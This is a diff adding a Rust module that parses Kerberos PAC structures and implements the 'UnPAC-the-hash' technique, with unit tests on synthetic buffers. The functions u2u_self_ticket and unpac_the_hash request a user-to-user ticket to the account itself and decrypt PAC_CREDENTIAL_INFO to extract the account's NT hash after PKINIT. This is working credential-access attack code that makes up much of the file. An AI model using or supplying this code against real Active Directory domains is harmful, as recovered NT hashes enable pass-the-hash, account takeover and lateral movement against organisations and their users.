@@ -0,0 +1,521 @@
+//! PAC parsing and UnPAC-the-hash: a user-to-user ticket to ourselves is encrypted
+//! with the TGT session key, which gives access to its PAC. After PKINIT the PAC
+//! holds the NT hash of the account in PAC_CREDENTIAL_INFO, encrypted with the AS reply key.
+
+use himmelblau_kerberos_asn1::{EncryptionKey, KerberosFlags, PrincipalName};
+use himmelblau_kerberos_constants::{
+    kdc_options::{CANONICALIZE, ENC_TKT_IN_SKEY, FORWARDABLE, RENEWABLE, RENEWABLE_OK},
+    principal_names::NT_PRINCIPAL,
+};
+use himmelblau_kerberos_crypto::new_kerberos_cipher;
+
+use crate::{
+    data::DomainController,
+    kerberos::{
+        der,
+        tgs::{build_tgs_req, send_tgs_req},
+        ticket::SessionTicket,
+    },
+    utils::ldap_operations::sid_to_string,
+};
+
+/// Key usage of the ticket encrypted part (AS-REP, TGS-REP ticket)
+pub const KEY_USAGE_TICKET_ENC_PART: i32 = 2;
+/// Key usage of the PAC_CREDENTIAL_INFO serialized data
+const KEY_USAGE_PAC_CREDENTIAL: i32 = 16;
+
+pub const AD_IF_RELEVANT: u64 = 1;
+pub const AD_WIN2K_PAC: u64 = 128;
+
+pub const PAC_LOGON_INFO: u32 = 1;
+pub const PAC_CREDENTIAL_INFO: u32 = 2;
+pub const PAC_SERVER_CHECKSUM: u32 = 6;
+pub const PAC_PRIVSVR_CHECKSUM: u32 = 7;
+pub const PAC_CLIENT_INFO: u32 = 10;
+pub const PAC_UPN_DNS_INFO: u32 = 12;
+pub const PAC_TICKET_CHECKSUM: u32 = 16;
+pub const PAC_ATTRIBUTES_INFO: u32 = 17;
+pub const PAC_REQUESTOR: u32 = 18;
+pub const PAC_FULL_CHECKSUM: u32 = 19;
+
+/// UPN_DNS_INFO flag when the sAMAccountName and SID are present
+pub const UPN_DNS_EXTENDED: u32 = 2;
+
+/// Flag of NTLM_SUPPLEMENTAL_CREDENTIAL when the NT hash is present
+const NTLM_NT_PRESENT: u32 = 2;
+
+fn u32_at(data: &[u8], offset: usize) -> Result<u32, String> {
+    data.get(offset..offset + 4)
+        .map(|b| u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
+        .ok_or("Truncated PAC data".to_string())
+}
+
+fn align4(offset: usize) -> usize {
+    (offset + 3) & !3
+}
+
+/// Find the PAC in the authorization data of a decrypted EncTicketPart
+pub fn ticket_pac(enc_ticket_part: &[u8]) -> Result<Vec<u8>, String> {
+    // EncTicketPart ::= [APPLICATION 3] SEQUENCE { ..., authorization-data [10] }
+    let (application, _) = der::parse_tlv(enc_ticket_part)?;
+    let authorization_data = application.inner()?.child(0xaa)?.inner()?;
+    find_pac(&authorization_data)?.ok_or("Ticket has no PAC".to_string())
+}
+
+fn find_pac(authorization_data: &der::Tlv) -> Result<Option<Vec<u8>>, String> {
+    for entry in authorization_data.children()? {
+        let ad_type = entry.child(0xa0)?.inner()?.as_u64();
+        let ad_data = entry.child(0xa1)?.inner()?.content;
+        match ad_type {
+            AD_WIN2K_PAC => return Ok(Some(ad_data.to_vec())),
+            AD_IF_RELEVANT => {
+                let (inner, _) = der::parse_tlv(ad_data)?;
+                if let Some(pac) = find_pac(&inner)? {
+                    return Ok(Some(pac));
+                }
+            }
+            _ => {}
+        }
+    }
+    Ok(None)
+}
+
+/// Buffers of a PACTYPE as (ulType, data)
+pub fn pac_buffers(pac: &[u8]) -> Result<Vec<(u32, Vec<u8>)>, String> {
+    let count = u32_at(pac, 0)? as usize;
+    let mut buffers = Vec::with_capacity(count);
+    for i in 0..count {
+        let header = 8 + i * 16;
+        let buffer_type = u32_at(pac, header)?;
+        let size = u32_at(pac, header + 4)? as usize;
+        let offset = u32_at(pac, header + 8)? as usize;
+        let data = pac.get(offset..offset + size).ok_or("Truncated PAC buffer".to_string())?;
+        buffers.push((buffer_type, data.to_vec()));
+    }
+    Ok(buffers)
+}
+
+/// Name of a PAC buffer type
+pub fn pac_buffer_name(buffer_type: u32) -> &'static str {
+    match buffer_type {
+        PAC_LOGON_INFO => "LOGON_INFO",
+        PAC_CREDENTIAL_INFO => "CREDENTIAL_INFO",
+        PAC_SERVER_CHECKSUM => "SERVER_CHECKSUM",
+        PAC_PRIVSVR_CHECKSUM => "PRIVSVR_CHECKSUM",
+        PAC_CLIENT_INFO => "CLIENT_INFO",
+        11 => "CONSTRAINED_DELEGATION_INFO",
+        PAC_UPN_DNS_INFO => "UPN_DNS_INFO",
+        13 => "CLIENT_CLAIMS_INFO",
+        14 => "DEVICE_INFO",
+        15 => "DEVICE_CLAIMS_INFO",
+        PAC_TICKET_CHECKSUM => "TICKET_CHECKSUM",
+        PAC_ATTRIBUTES_INFO => "ATTRIBUTES_INFO",
+        PAC_REQUESTOR => "REQUESTOR",
+        PAC_FULL_CHECKSUM => "FULL_CHECKSUM",
+        _ => "UNKNOWN",
+    }
+}
+
+/// Reader for the NDR serialized PAC structures
+struct NdrReader<'a> {
+    data: &'a [u8],
+    offset: usize,
+}
+
+impl<'a> NdrReader<'a> {
+    /// Start after the type serialization headers
+    fn new(data: &'a [u8]) -> Self {
+        Self { data, offset: 16 }
+    }
+
+    fn align(&mut self, n: usize) {
+        self.offset = (self.offset + n - 1) & !(n - 1);
+    }
+
+    fn bytes(&mut self, len: usize) -> Result<&'a [u8], String> {
+        let bytes = self
+            .data
+            .get(self.offset..self.offset + len)
+            .ok_or("Truncated NDR data".to_string())?;
+        self.offset += len;
+        Ok(bytes)
+    }
+
+    fn u16(&mut self) -> Result<u16, String> {
+        self.align(2);
+        let b = self.bytes(2)?;
+        Ok(u16::from_le_bytes([b[0], b[1]]))
+    }
+
+    fn u32(&mut self) -> Result<u32, String> {
+        self.align(4);
+        let value = u32_at(self.data, self.offset)?;
+        self.offset += 4;
+        Ok(value)
+    }
+
+    fn filetime(&mut self) -> Result<u64, String> {
+        let low = self.u32()? as u64;
+        let high = self.u32()? as u64;
+        Ok((high << 32) | low)
+    }
+
+    /// RPC_UNICODE_STRING header, returns the referent of the buffer
+    fn unicode_string(&mut self) -> Result<u32, String> {
+        self.u16()?;
+        self.u16()?;
+        self.u32()
+    }
+
+    /// Deferred buffer of a RPC_UNICODE_STRING
+    fn deferred_string(&mut self, referent: u32) -> Result<String, String> {
+        if referent == 0 {
+            return Ok(String::new());
+        }
+        let _max_count = self.u32()?;
+        let _offset = self.u32()?;
+        let count = self.u32()? as usize;
+        let bytes = self.bytes(count * 2)?;
+        Ok(String::from_utf16_lossy(
+            &bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect::<Vec<_>>(),
+        ))
+    }
+
+    /// Deferred RPC_SID, laid out like a binary SID after its conformant count
+    fn sid(&mut self) -> Result<String, String> {
+        let count = self.u32()? as usize;
+        let sid = self.bytes(8 + count * 4)?;
+        sid_to_string(sid).ok_or("Invalid SID in PAC".to_string())
+    }
+
+    /// Deferred array of GROUP_MEMBERSHIP as (RelativeId, Attributes)
+    fn group_memberships(&mut self, referent: u32) -> Result<Vec<(u32, u32)>, String> {
+        if referent == 0 {
+            return Ok(Vec::new());
+        }
+        let count = self.u32()? as usize;
+        (0..count).map(|_| Ok((self.u32()?, self.u32()?))).collect()
+    }
+}
+
+/// KERB_VALIDATION_INFO of the PAC_LOGON_INFO buffer
+#[derive(Debug, Clone, Default)]
+pub struct LogonInfo {
+    pub logon_time: u64,
+    pub password_last_set: u64,
+    pub password_must_change: u64,
+    pub effective_name: String,
+    pub full_name: String,
+    pub logon_script: String,
+    pub profile_path: String,
+    pub home_directory: String,
+    pub logon_count: u16,
+    pub bad_password_count: u16,
+    pub user_id: u32,
+    pub primary_group_id: u32,
+    /// (RelativeId, Attributes) in the logon domain
+    pub group_ids: Vec<(u32, u32)>,
+    pub user_flags: u32,
+    pub logon_server: String,
+    pub logon_domain_name: String,
+    pub logon_domain_id: Option<String>,
+    pub user_account_control: u32,
+    /// (Sid, Attributes)
+    pub extra_sids: Vec<(String, u32)>,
+    pub resource_group_domain_sid: Option<String>,
+    pub resource_group_ids: Vec<(u32, u32)>,
+}
+
+impl LogonInfo {
+    /// SID of the user
+    pub fn user_sid(&self) -> Option<String> {
+        self.logon_domain_id.as_ref().map(|domain| format!("{}-{}", domain, self.user_id))
+    }
+
+    /// SIDs of the groups of the logon domain
+    pub fn group_sids(&self) -> Vec<String> {
+        let domain = self.logon_domain_id.clone().unwrap_or_default();
+        self.group_ids.iter().map(|(rid, _)| format!("{}-{}", domain, rid)).collect()
+    }
+}
+
+pub fn parse_logon_info(data: &[u8]) -> Result<LogonInfo, String> {
+    let mut r = NdrReader::new(data);
+    let mut info = LogonInfo::default();
+    let _referent = r.u32()?;
+
+    info.logon_time = r.filetime()?;
+    let _logoff_time = r.filetime()?;
+    let _kick_off_time = r.filetime()?;
+    info.password_last_set = r.filetime()?;
+    let _password_can_change = r.filetime()?;
+    info.password_must_change = r.filetime()?;
+
+    let effective_name = r.unicode_string()?;
+    let full_name = r.unicode_string()?;
+    let logon_script = r.unicode_string()?;
+    let profile_path = r.unicode_string()?;
+    let home_directory = r.unicode_string()?;
+    let home_directory_drive = r.unicode_string()?;
+
+    info.logon_count = r.u16()?;
+    info.bad_password_count = r.u16()?;
+    info.user_id = r.u32()?;
+    info.primary_group_id = r.u32()?;
+    let _group_count = r.u32()?;
+    let group_ids = r.u32()?;
+    info.user_flags = r.u32()?;
+    let _user_session_key = r.bytes(16)?;
+    let logon_server = r.unicode_string()?;
+    let logon_domain_name = r.unicode_string()?;
+    let logon_domain_id = r.u32()?;
+    let _reserved1 = r.bytes(8)?;
+    info.user_account_control = r.u32()?;
+    let _sub_auth_status = r.u32()?;
+    let _last_successful_i_logon = r.filetime()?;
+    let _last_failed_i_logon = r.filetime()?;
+    let _failed_i_logon_count = r.u32()?;
+    let _reserved3 = r.u32()?;
+    let _sid_count = r.u32()?;
+    let extra_sids = r.u32()?;
+    let resource_group_domain_sid = r.u32()?;
+    let _resource_group_count = r.u32()?;
+    let resource_group_ids = r.u32()?;
+
+    // Deferred pointers, in the order of the structure
+    info.effective_name = r.deferred_string(effective_name)?;
+    info.full_name = r.deferred_string(full_name)?;
+    info.logon_script = r.deferred_string(logon_script)?;
+    info.profile_path = r.deferred_string(profile_path)?;
+    info.home_directory = r.deferred_string(home_directory)?;
+    r.deferred_string(home_directory_drive)?;
+    info.group_ids = r.group_memberships(group_ids)?;
+    info.logon_server = r.deferred_string(logon_server)?;
+    info.logon_domain_name = r.deferred_string(logon_domain_name)?;
+    if logon_domain_id != 0 {
+        info.logon_domain_id = Some(r.sid()?);
+    }
+    if extra_sids != 0 {
+        let count = r.u32()? as usize;
+        let entries = (0..count)
+            .map(|_| Ok((r.u32()?, r.u32()?)))
+            .collect::<Result<Vec<_>, String>>()?;
+        for (sid, attributes) in entries {
+            if sid != 0 {
+                info.extra_sids.push((r.sid()?, attributes));
+            }
+        }
+    }
+    if resource_group_domain_sid != 0 {
+        info.resource_group_domain_sid = Some(r.sid()?);
+    }
+    info.resource_group_ids = r.group_memberships(resource_group_ids)?;
+    Ok(info)
+}
+
+/// PAC_CLIENT_INFO as (ClientId, Name)
+pub fn parse_client_info(data: &[u8]) -> Result<(u64, String), String> {
+    let client_id = ((u32_at(data, 4)? as u64) << 32) | u32_at(data, 0)? as u64;
+    let len = data.get(8..10).map(|b| u16::from_le_bytes([b[0], b[1]])).ok_or("Truncated PAC_CLIENT_INFO".to_string())?;
+    let name = data.get(10..10 + len as usize).ok_or("Truncated PAC_CLIENT_INFO".to_string())?;
+    Ok((client_id, utf16_string(name)))
+}
+
+/// UPN_DNS_INFO of the PAC
+#[derive(Debug, Clone, Default)]
+pub struct UpnDnsInfo {
+    pub upn: String,
+    pub dns_domain_name: String,
+    pub flags: u32,
+    pub sam_name: Option<String>,
+    pub sid: Option<String>,
+}
+
+fn utf16_string(bytes: &[u8]) -> String {
+    String::from_utf16_lossy(&bytes.chunks_exact(2).map(|c| u16::from_le_bytes([c[0], c[1]])).collect::<Vec<_>>())
+}
+
+pub fn parse_upn_dns_info(data: &[u8]) -> Result<UpnDnsInfo, String> {
+    let u16_at = |offset: usize| {
+        data.get(offset..offset + 2)
+            .map(|b| u16::from_le_bytes([b[0], b[1]]) as usize)
+            .ok_or("Truncated UPN_DNS_INFO".to_string())
+    };
+    let field = |length: usize, offset: usize| {
+        data.get(offset..offset + length).ok_or("Truncated UPN_DNS_INFO".to_string())
+    };
+
+    let mut info = UpnDnsInfo {
+        upn: utf16_string(field(u16_at(0)?, u16_at(2)?)?),
+        dns_domain_name: utf16_string(field(u16_at(4)?, u16_at(6)?)?),
+        flags: u32_at(data, 8)?,
+        ..Default::default()
+    };
+    if info.flags & UPN_DNS_EXTENDED != 0 {
+        info.sam_name = Some(utf16_string(field(u16_at(12)?, u16_at(14)?)?));
+        info.sid = sid_to_string(field(u16_at(16)?, u16_at(18)?)?);
+    }
+    Ok(info)
+}
+
+/// PAC_SIGNATURE_DATA as (SignatureType, Signature)
+pub fn parse_signature(data: &[u8]) -> Result<(i32, Vec<u8>), String> {
+    let signature_type = u32_at(data, 0)? as i32;
+    // HMAC-MD5 signatures are 16 bytes, the AES ones 12, a RODC identifier may follow
+    let len = if signature_type == -138 { 16 } else { 12 };
+    let signature = data.get(4..4 + len).ok_or("Truncated PAC signature".to_string())?;
+    Ok((signature_type, signature.to_vec()))
+}
+
+/// Supplemental credentials of an NDR serialized PAC_CREDENTIAL_DATA as (package name, credentials)
+pub fn pac_credential_data(data: &[u8]) -> Result<Vec<(String, Vec<u8>)>, String> {
+    // Type serialization header (16 bytes), CredentialCount, Credentials pointer, array MaxCount
+    let count = u32_at(data, 16)? as usize;
+    let mut offset = 28;
+
+    // SECPKG_SUPPLEMENTAL_CRED: RPC_UNICODE_STRING (Length, MaximumLength, pointer), CredentialSize, pointer
+    let mut sizes = Vec::with_capacity(count);
+    for _ in 0..count {
+        sizes.push(u32_at(data, offset + 8)? as usize);
+        offset += 16;
+    }
+
+    // Deferred pointers: the package name string then the credential bytes of each entry
+    let mut credentials = Vec::with_capacity(count);
+    for size in sizes {
+        let actual_count = u32_at(data, offset + 8)? as usize;
+        offset += 12;
+        let name_bytes = data
+            .get(offset..offset + actual_count * 2)
+            .ok_or("Truncated PAC credential data".to_string())?;
+        let name = String::from_utf16_lossy(
+            &name_bytes
+                .chunks_exact(2)
+                .map(|c| u16::from_le_bytes([c[0], c[1]]))
+                .collect::<Vec<_>>(),
+        );
+        offset = align4(offset + actual_count * 2);
+
+        offset += 4;
+        let bytes = data
+            .get(offset..offset + size)
+            .ok_or("Truncated PAC credential data".to_string())?;
+        credentials.push((name, bytes.to_vec()));
+        offset = align4(offset + size);
+    }
+    Ok(credentials)
+}
+
+/// NT hash of an NTLM_SUPPLEMENTAL_CREDENTIAL
+pub fn ntlm_supplemental_nt_hash(credential: &[u8]) -> Option<String> {
+    let flags = u32_at(credential, 4).ok()?;
+    if flags & NTLM_NT_PRESENT == 0 {
+        return None;
+    }
+    let nt = credential.get(24..40)?;
+    Some(nt.iter().map(|b| format!("{:02x}", b)).collect())
+}
+
+/// Request a user-to-user ticket to ourselves and return its decrypted EncTicketPart
+pub async fn u2u_self_ticket(dc: &DomainController, tgt: &SessionTicket) -> Result<Vec<u8>, String> {
+    let sname = PrincipalName {
+        name_type: NT_PRINCIPAL,
+        name_string: tgt.client_name.name_string.clone(),
+    };
+    let mut tgs_req = build_tgs_req(tgt, &tgt.tgt_realm(), &sname, &[tgt.session_key.keytype], dc.now())?;
+    tgs_req.req_body.kdc_options =
+        KerberosFlags::from(FORWARDABLE | RENEWABLE | CANONICALIZE | RENEWABLE_OK | ENC_TKT_IN_SKEY);
+    tgs_req.req_body.additional_tickets = Some(vec![tgt.ticket.clone()]);
+
+    let tgs_rep = send_tgs_req(dc, &tgs_req).await?;
+    let cipher = new_kerberos_cipher(tgs_rep.ticket.enc_part.etype).map_err(|e| e.to_string())?;
+    cipher
+        .decrypt(
+            &tgt.session_key.keyvalue,
+            KEY_USAGE_TICKET_ENC_PART,
+            &tgs_rep.ticket.enc_part.cipher,
+        )
+        .map_err(|e| format!("Failed to decrypt U2U ticket: {}", e))
+}
+
+/// UnPAC-the-hash: recover the NT hash of a PKINIT authenticated account
+pub async fn unpac_the_hash(dc: &DomainController, tgt: &SessionTicket, reply_key: &EncryptionKey) -> Result<String, String> {
+    let enc_ticket_part = u2u_self_ticket(dc, tgt).await?;
+    let pac = ticket_pac(&enc_ticket_part)?;
+
+    let credential_info = pac_buffers(&pac)?
+        .into_iter()
+        .find(|(buffer_type, _)| *buffer_type == PAC_CREDENTIAL_INFO)
+        .map(|(_, data)| data)
+        .ok_or("PAC has no PAC_CREDENTIAL_INFO, the TGT wasn't obtained with PKINIT".to_string())?;
+
+    // PAC_CREDENTIAL_INFO: Version, EncryptionType, SerializedData
+    let etype = u32_at(&credential_info, 4)? as i32;
+    let cipher = new_kerberos_cipher(etype).map_err(|e| e.to_string())?;
+    let serialized = cipher
+        .decrypt(&reply_key.keyvalue, KEY_USAGE_PAC_CREDENTIAL, &credential_info[8..])
+        .map_err(|e| format!("Failed to decrypt PAC_CREDENTIAL_INFO: {}", e))?;
+
+    pac_credential_data(&serialized)?
+        .into_iter()
+        .find(|(package, _)| package.eq_ignore_ascii_case("NTLM"))
+        .and_then(|(_, credential)| ntlm_supplemental_nt_hash(&credential))
+        .ok_or("No NTLM credential in PAC_CREDENTIAL_INFO".to_string())
+}
+
+#[cfg(test)]
+mod test {
+    use super::*;
+
+    #[test]
+    fn test_upn_dns_info() {
+        let upn: Vec<u8> = "a@b".encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+        let mut sid = vec![1, 1, 0, 0, 0, 0, 0, 5];
+        sid.extend_from_slice(&18u32.to_le_bytes());
+
+        let mut data = Vec::new();
+        for value in [6u16, 20, 2, 26, 2, 0, 2, 28, 12, 30] {
+            data.extend_from_slice(&value.to_le_bytes());
+        }
+        data.extend_from_slice(&upn);
+        data.extend_from_slice(&upn[2..4]);
+        data.extend_from_slice(&upn[0..2]);
+        data.extend_from_slice(&sid);
+
+        let info = parse_upn_dns_info(&data).unwrap();
+        assert_eq!(info.upn, "a@b");
+        assert_eq!(info.dns_domain_name, "@");
+        assert_eq!(info.sam_name.as_deref(), Some("a"));
+        assert_eq!(info.sid.as_deref(), Some("S-1-5-18"));
+    }
+
+    #[test]
+    fn test_pac_credential_data() {
+        let mut ntlm = vec![0, 0, 0, 0, NTLM_NT_PRESENT as u8, 0, 0, 0];
+        ntlm.extend_from_slice(&[0; 16]);
+        ntlm.extend_from_slice(&[0xab; 16]);
+
+        let mut data = vec![0; 16];
+        data.extend_from_slice(&1u32.to_le_bytes());
+        data.extend_from_slice(&0x20000u32.to_le_bytes());
+        data.extend_from_slice(&1u32.to_le_bytes());
+        // RPC_UNICODE_STRING, CredentialSize, Credentials pointer
+        data.extend_from_slice(&[8, 0, 8, 0]);
+        data.extend_from_slice(&0x20004u32.to_le_bytes());
+        data.extend_from_slice(&(ntlm.len() as u32).to_le_bytes());
+        data.extend_from_slice(&0x20008u32.to_le_bytes());
+        // Package name
+        data.extend_from_slice(&4u32.to_le_bytes());
+        data.extend_from_slice(&0u32.to_le_bytes());
+        data.extend_from_slice(&4u32.to_le_bytes());
+        data.extend("NTLM".encode_utf16().flat_map(|c| c.to_le_bytes()));
+        // Credentials
+        data.extend_from_slice(&(ntlm.len() as u32).to_le_bytes());
+        data.extend_from_slice(&ntlm);
+
+        let credentials = pac_credential_data(&data).unwrap();
+        assert_eq!(credentials.len(), 1);
+        assert_eq!(credentials[0].0, "NTLM");
+        assert_eq!(ntlm_supplemental_nt_hash(&credentials[0].1).unwrap(), "ab".repeat(16));
+    }
+}